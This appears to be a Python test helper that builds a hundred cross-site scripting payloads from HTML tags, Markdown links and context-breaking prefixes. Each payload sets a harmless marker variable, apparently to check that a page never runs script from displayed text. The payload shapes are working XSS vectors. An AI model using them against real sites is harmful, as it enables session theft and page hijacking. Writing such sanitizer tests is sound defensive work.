"""A hundred texts that run a script on a page that shows them as anything but text."""

from __future__ import annotations

MARK = "window.executed=1"

_TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<marquee onstart={}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<form><button formaction=javascript:{}>go</button></form>",
    "<a href=javascript:{}>go</a>",
    "<link rel=stylesheet href=javascript:{}>",
    "<style>@import 'javascript:{}'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
)
_MARKDOWN = (
    "[go](javascript:{})",
    "![x](javascript:{})",
    "[go](data:text/html,<script>{}</script>)",
    "<javascript:{}>",
    "[x]: javascript:{}\n[x]",
)
_AROUND = ("{}", "\"'>{}", "</textarea></title>{}", "`${{{}}}`")


def payloads() -> list[str]:
    """The hundred of them, each different."""
    shapes = (*_TAGS, *_MARKDOWN)
    return [around.format(shape.format(MARK)) for around in _AROUND for shape in shapes]
